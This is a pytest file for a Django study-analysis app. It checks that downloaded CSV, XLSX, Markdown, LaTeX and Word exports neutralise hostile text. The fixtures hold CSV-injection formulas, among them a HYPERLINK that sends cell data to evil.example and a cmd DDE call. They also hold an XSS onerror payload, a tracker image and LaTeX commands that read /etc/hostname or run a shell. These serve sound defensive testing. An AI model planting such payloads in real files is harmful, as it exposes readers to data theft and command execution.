"""A hostile study through every table and format an analyst can download.

Every text a facilitator or an imported file controls (study, vignette and
option titles, statement texts, panelist labels) starts with a formula,
carries HTML and a pipe, and the statements hold a blank line. The files are
then opened the way the analyst opens them: CSV and XLSX in LibreOffice Calc,
which runs formulas it finds, Markdown and LaTeX by their structure.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import zipfile

import pytest
import yaml
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from analysis.exports import FORMATS
from analysis.forms import DOWNLOADS, REPORT, WORKBOOK
from surveys.models import Membership, Study
from tests.analysis.panels import comment, select
from tests.analysis.tabular import assert_is_a_booktabs_longtable, compile_latex
from tests.conftest import MAYO_FILE, member
from tests.factories import ItemFactory

pytestmark = pytest.mark.django_db

# OWASP's examples of CSV injection, one for each character that starts a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")
HTML = "<img src=x onerror=alert(1)>"
# An image a Markdown preview would fetch, and a link.
MARKDOWN = "![t](https://tracker.example/p.png) [here](https://evil.example)"
# TeX commands that would read a file or run a program if TeX read them as commands.
LATEX = r"\input{/etc/hostname} \immediate\write18{touch pwned} $x^2$ 100% #1 ~ {}"
LABELS = ["=1+1", "+P02", "-P03", "@P04", "=cmd|'/C calc'!A0", "P06", "P07"]


def hostile(index: int) -> str:
    return f"{FORMULAS[index % len(FORMULAS)]} {HTML} | {index}"


def is_formula(text) -> bool:
    return isinstance(text, str) and text.startswith(STARTS) and not re.fullmatch(r"[+-]?\d+\.?\d*", text)


@pytest.fixture
def hostile_study(tmp_path, client):
    data = yaml.safe_load(MAYO_FILE.read_text())
    # The title goes into mail, so it may hold no address; the formula is its attack here.
    data["title"] = FORMULAS[1] + " " + HTML
    for index, option in enumerate(data["options"]):
        option["name"] = option["short"] = hostile(index)
    for index, vignette in enumerate(data["vignettes"]):
        vignette["title"] = hostile(index)
    for index, statement in enumerate(data["statements"]):
        statement["text"] = hostile(index) + f" {MARKDOWN} {LATEX}\n\nA second paragraph"
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
    call_command("import_study", str(path))
    study = Study.objects.get(slug=data["slug"])

    ratings, selections = io.StringIO(), io.StringIO()
    csv.writer(ratings).writerow(["round", "panelist", "statement", "rating"])
    csv.writer(selections).writerow(["round", "panelist", "vignette", "option"])
    for number, rating in ((1, 6), (2, 8)):
        for label in LABELS:
            for statement in data["statements"]:
                csv.writer(ratings).writerow([number, label, statement["code"], rating])
            for vignette in data["vignettes"]:
                csv.writer(selections).writerow([number, label, vignette["code"], data["options"][0]["code"]])
    (tmp_path / "ratings.csv").write_text(ratings.getvalue())
    (tmp_path / "selections.csv").write_text(selections.getvalue())
    call_command(
        "import_responses", study.slug, "--ratings", str(tmp_path / "ratings.csv"),
        "--not-recommended", str(tmp_path / "selections.csv"),
    )
    # Top choices and rankings are asked on the round's pages, not in the study file.
    second, base = study.rounds.get(number=2), study.vignettes.get(code="base")
    for code, fields in (("base:top", {"type": "top_k", "max_choices": 3}), ("base:rank", {"type": "ranking"})):
        item = ItemFactory(round=second, code=code, vignette=base, text=hostile(len(code)), **fields)
        item.options.set(study.options.filter(code__in=["sga", "tms", "ketamine"]))
        select(second, code, {"P06": ["tms", "sga", "ketamine"], "P07": ["sga", "tms", "ketamine"]})
    comment(second, "base:comment", {"P06": hostile(3) + f" {MARKDOWN}\nA second line", "P07": HTML})
    client.force_login(member(study, Membership.Role.ANALYST, "analyst"))
    return study


def download(client, study, table: str, fmt: str) -> bytes:
    url = reverse("analysis:download", args=[study.slug])
    response = client.get(url, {"table": table, "format": fmt, "round": 2, "include_all": "on"})
    assert response.status_code == 200, response.content[:500]
    return response.getvalue()


def calc(files: list, out) -> list:
    """The files as LibreOffice Calc opens them, saved again as XLSX in `out`."""
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{out}/profile", "--headless",
         "--convert-to", "xlsx", "--outdir", str(out), *map(str, files)],
        check=True, capture_output=True, timeout=300,
    )
    return [out / f"{path.stem}.xlsx" for path in files]


def texts_of(rows) -> set[str]:
    """Every text cell of JSON rows, list cells joined as the flat formats join them."""
    found = set()
    for row in rows:
        for value in row.values():
            if isinstance(value, list):
                value = "; ".join(map(str, value))
            if isinstance(value, str):
                found.add(value)
    return found


def test_no_spreadsheet_runs_a_text_and_every_text_reads_as_written(client, hostile_study, tmp_path):
    tables = [table for table in DOWNLOADS if table not in (WORKBOOK, REPORT)]
    truth = {table: json.loads(download(client, hostile_study, table, "json")) for table in tables}
    written = set().union(*map(texts_of, truth.values()))
    # The hostile texts did reach the tables, so the checks below check something.
    assert {text[:1] for text in written if is_formula(text)} >= {"=", "+", "-", "@"}
    assert set(LABELS) <= written

    csvs, workbooks = [], []
    for table in tables:
        content = download(client, hostile_study, table, "csv")
        cells = [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
        assert not [cell for cell in cells if is_formula(cell)], table
        assert {cell[1:] for cell in cells if cell.startswith("'")} == {t for t in texts_of(truth[table]) if is_formula(t)}
        (path := tmp_path / f"{table}.csv").write_bytes(content)
        csvs.append(path)
    for table in [*tables, WORKBOOK]:
        (path := tmp_path / f"{table}.xlsx").write_bytes(download(client, hostile_study, table, "xlsx"))
        workbooks.append(path)
        with zipfile.ZipFile(path) as archive:
            sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not [sheet for sheet in sheets if re.search(r"<f[ >]", sheet)], table
        for sheet in load_workbook(path):
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                assert cell.data_type != "f"
                assert cell.quotePrefix == is_formula(cell.value), (table, cell.coordinate, cell.value)

    # Calc runs "=1+1" in a CSV or an XLSX cell and saves it as a formula; here it
    # finds none but the booleans, which it saves as =TRUE() and =FALSE().
    opened = calc(workbooks, tmp_path / "from-xlsx")
    for path in calc(csvs, tmp_path / "from-csv") + opened:
        for sheet in load_workbook(path):
            formulas = {cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"}
            assert formulas <= {"=TRUE()", "=FALSE()"}, path
    for table, path in zip([*tables, WORKBOOK], opened):
        shown = {cell.value for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row}
        sheets = load_workbook(tmp_path / f"{table}.xlsx").sheetnames
        expected = set().union(*(texts_of(truth[sheet]) for sheet in sheets))
        assert {text for text in expected if is_formula(text)} <= shown, table


@pytest.mark.parametrize("table", [table for table in DOWNLOADS if table not in (WORKBOOK, REPORT)])
def test_markdown_and_latex_keep_every_text_inside_its_cell(client, hostile_study, table, tmp_path):
    rows = json.loads(download(client, hostile_study, table, "json"))
    columns = len(rows[0])

    markdown = download(client, hostile_study, table, "md").decode()
    assert "<" not in markdown and "![" not in markdown and "](" not in markdown
    if any(MARKDOWN in text for text in texts_of(rows)):
        assert r"\!\[t\]\(https://tracker.example/p.png\)" in markdown
    if any(HTML in text for text in texts_of(rows)):
        assert r"&lt;img src=x onerror=alert\(1\)&gt;" in markdown
    lines = markdown.splitlines()
    assert len(lines) == len(rows) + 2
    for line in lines:
        assert len(re.findall(r"(?<!\\)\|", line)) == columns + 1, line

    latex = download(client, hostile_study, table, "tex").decode()
    assert_is_a_booktabs_longtable(latex, columns=columns, rows=len(rows))
    # pdflatex reads every text as text: it compiles, and no command in a text ran.
    compile_latex({"table": latex}, tmp_path)
    assert not (tmp_path / "pwned").exists()
    if any(LATEX in text for text in texts_of(rows)):
        assert r"\textbackslash{}input\{/etc/hostname\}" in latex


def test_a_control_character_in_a_text_does_not_break_the_workbook(client, hostile_study):
    item = hostile_study.rounds.get(number=2).items.get(code="base-main")
    item.text = "Ring the bell\x07 twice"
    item.save(update_fields=["text"])

    workbook = load_workbook(io.BytesIO(download(client, hostile_study, "recommendations", "xlsx")))

    assert "Ring the bell\ufffd twice" in {cell.value for row in workbook["recommendations"].iter_rows() for cell in row}


def test_a_new_format_is_not_left_out_of_these_checks():
    # json is the truth the others are read against; the tests above open the other four.
    assert set(FORMATS) == {"json", "csv", "xlsx", "md", "tex"}


def test_the_word_report_holds_every_text_as_text(client, hostile_study):
    import docx

    report = docx.Document(io.BytesIO(download(client, hostile_study, REPORT, "")))

    texts = [cell.text for table in report.tables for row in table.rows for cell in row.cells]
    assert any(HTML in text for text in texts)
    # A Word file has no formulas; a text starting like one is plain text in its cell.
    assert any(text.startswith(tuple(STARTS[:4])) for text in texts)
